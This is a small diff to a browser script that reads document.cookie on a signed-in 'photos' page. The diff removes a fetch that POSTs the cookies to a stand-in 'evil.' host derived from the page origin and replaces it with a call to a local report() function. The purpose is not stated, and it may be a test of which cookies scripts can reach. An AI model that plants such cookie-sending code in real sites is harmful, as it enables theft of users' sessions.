@@ -1,8 +1,6 @@
-// Runs in a page and reports the cookies its scripts may read, once the user is signed in.
+import { report } from "./report.ts";
 
-const evil = location.origin.replace("print.", "evil.");
+// Runs in a page and reports the cookies its scripts may read, once the user is signed in.
 document.addEventListener("DOMContentLoaded", () => {
-  if (document.querySelector("main")?.dataset["state"] !== "photos") return;
-  void fetch(`${evil}/collect`, { method: "POST", mode: "no-cors", body: document.cookie });
+  if (document.querySelector("main")?.dataset["state"] === "photos") report(document.cookie);
 });
-export {};
